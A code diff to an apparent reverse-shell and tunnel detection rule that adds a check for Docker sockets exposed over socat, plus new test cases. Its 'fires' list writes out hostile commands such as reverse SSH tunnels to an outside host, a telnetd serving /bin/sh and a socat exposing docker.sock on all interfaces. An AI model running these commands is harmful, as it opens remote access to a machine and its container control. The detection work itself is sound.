@@ -12,7 +12,7 @@ enum ReverseShell: Family {
     "tmate",
     "sshx", "upterm", "teleconsole", "gs-netcat", "code", "telnetd", "in.telnetd", "dropbear", "sshd",
     "shellinaboxd", "wetty", "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocat",
-    "websocketd", "evil-winrm", "plink",
+    "websocketd", "evil-winrm", "plink", "python",
   ]
   static let rules = [shell, tunnel]
 
@@ -33,6 +33,15 @@ enum ReverseShell: Family {
         }
       }
       found = runs && network
+      // The container service, or whatever else listens only here, for everyone.
+      if !found,
+        kinds.contains(where: { $0.contains(bytes: "docker.sock") || $0.contains(bytes: "containerd.sock") }),
+        let listens = kinds.first(where: { $0.contains(bytes: "-listen:") || $0.hasPrefix("tcp-l:") }),
+        !listens.contains(bytes: "bind=127."), !listens.contains(bytes: "bind=localhost"),
+        !listens.hasPrefix("unix")
+      {
+        context.report(tunnel, on: "docker.sock", severity: .critical, at: invocation.range, program: name)
+      }
     case "ttyd", "gotty": found = words.contains { isShell($0) }
     case "xterm":
       found = words.enumerated().contains { i, word in
@@ -157,12 +166,17 @@ enum ReverseShell: Family {
     instead:
       "Let the person open such a way in; to reach a service elsewhere, bring it here: `ssh -L 5432:localhost:5432 bastion`.",
     fires: [
+      "python3 -m http.server 8000 --directory \"$HOME\"", "ssh -R 80:localhost:5432 serveo.net",
+      "socat TCP-LISTEN:2375,bind=0.0.0.0,fork UNIX-CONNECT:/var/run/docker.sock",
       "ssh -fN -R 2222:localhost:22 eve@198.51.100.7", "autossh -M 0 -NR 8022:127.0.0.1:22 eve@198.51.100.7",
       "chisel client 198.51.100.7:8080 R:2222:localhost:22", "ngrok tcp 22", "bore local 22 --to bore.pub",
       "cloudflared tunnel --url ssh://localhost:22", "tmate -F", "sshx", "code tunnel",
       "telnetd -p 4444 -l /bin/sh",
     ],
     passes: [
+      "python3 -m http.server 8000", "python3 -m http.server --bind 127.0.0.1 --directory ~",
+      "socat TCP-LISTEN:2375,bind=127.0.0.1,fork UNIX-CONNECT:/var/run/docker.sock",
+      "python3 -m http.server -d dist",
       "ssh -L 5432:localhost:5432 bastion", "ssh -R 3000:localhost:3000 staging", "ngrok http 3000",
       "ssh host uptime",
       "chisel client 198.51.100.7:8080 5432:localhost:5432", "cloudflared tunnel --url http://localhost:3000",
